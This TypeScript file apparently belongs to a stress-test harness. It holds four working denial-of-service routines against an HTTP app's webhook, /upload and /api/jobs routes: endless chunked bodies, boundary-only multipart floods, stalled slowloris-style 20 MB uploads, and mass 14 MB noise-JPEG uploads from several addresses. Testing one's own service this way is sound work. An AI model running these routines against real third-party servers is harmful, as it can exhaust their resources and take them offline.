/** Attacks with what is sent: bodies without an end, forms that are dear to parse, uploads that stand still or pile up. */
import type { Socket } from 'node:net';
import sharp from 'sharp';
import { type Attack, accomplice, ends, form, pause, type Target } from './attack.ts';

const MEGABYTE = Buffer.alloc(1024 * 1024, 1);

const head = (path: string, lines: readonly string[]) =>
  [`POST ${path} HTTP/1.1`, 'Host: localhost', ...lines, '', ''].join('\r\n');

/** Writes chunk after chunk as fast as the other side takes them. */
async function pour(socket: Socket, chunk: () => Uint8Array, signal: AbortSignal): Promise<void> {
  while (!signal.aborted && !socket.destroyed && socket.writable) {
    if (socket.write(chunk())) {
      await pause(0, signal);
      continue;
    }
    await new Promise<void>((resolve) => {
      const done = () => {
        socket.off('drain', done).off('close', done);
        resolve();
      };
      socket.on('drain', done).on('close', done);
    });
  }
}

/** A chunked body to every route that takes one, without proofs of who sends it. */
export const endlessBodies: Attack = {
  name: 'endless bodies to both webhooks, /upload and /api/jobs',
  async run(target, signal) {
    const chunk = Buffer.concat([Buffer.from('100000\r\n'), MEGABYTE, Buffer.from('\r\n')]);
    const lines = ['Content-Type: multipart/form-data; boundary=x', 'Transfer-Encoding: chunked'];
    const send = async (path: string) => {
      while (!signal.aborted) {
        const socket = target.connect();
        socket.write(head(path, lines));
        await pour(socket, () => chunk, signal);
        await pause(50, signal);
      }
    };
    for (const path of ['/discord/interactions', '/telegram', '/upload', '/api/jobs']) void send(path);
    await ends(signal);
    return undefined;
  },
};

/** Nothing but the beginnings of parts. */
export const boundaries: Attack = {
  name: 'forms of nothing but boundaries, 4 and 19 MB',
  async run(target, signal) {
    const headers = { 'content-type': 'multipart/form-data; boundary=x' };
    const send = async (body: Buffer) => {
      while (!signal.aborted) {
        await target.request({ method: 'POST', path: '/upload', headers, body }).catch(() => {});
        await pause(100, signal);
      }
    };
    const part = '--x\r\n\r\n\r\n';
    await Promise.all(
      [4, 19].map((megabytes) => send(Buffer.from(part.repeat((megabytes * 1e6) / part.length)))),
    );
    return undefined;
  },
};

/** One address sends most of a large form on each of five connections, then a byte now and then. */
export const standingUploads: Attack = {
  name: 'five uploads of 20 MB that stand still',
  async run(target, signal) {
    const lines = [
      'Content-Type: multipart/form-data; boundary=x',
      `Content-Length: ${20 * MEGABYTE.length}`,
    ];
    const part = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n';
    const send = async () => {
      const socket = target.connect();
      socket.write(head('/upload', lines) + part);
      for (let sent = 0; sent < 19 && !signal.aborted; sent++) socket.write(MEGABYTE);
      while (!signal.aborted) {
        await pause(2000, signal);
        if (!socket.destroyed) socket.write('.');
      }
    };
    await Promise.all(Array.from({ length: 5 }, send));
    return undefined;
  },
};

/** A photo of about 14 MB: noise does not compress. */
async function heavyPhoto(): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
  const create = { width: 3200, height: 2400, channels: 3, background: '#888', noise } as const;
  return await sharp({ create }).jpeg({ quality: 97, chromaSubsampling: '4:4:4' }).toBuffer();
}

/** What may wait, waits: five addresses, nine large photos each. */
export const waitingUploads: Attack = {
  name: '45 uploads of 14 MB that wait for their turn',
  prepare: async () => [await heavyPhoto()],
  async run(target: Target, signal, [photo = Buffer.alloc(0)]) {
    const { type, body } = await form(photo);
    const lines = [`Content-Type: ${type}`, `Content-Length: ${body.length}`];
    for (let number = 0; number < 45; number++) {
      const socket = target.connect(accomplice(number % 5));
      socket.write(head('/upload', lines));
      socket.write(body);
    }
    await ends(signal);
    return undefined;
  },
};
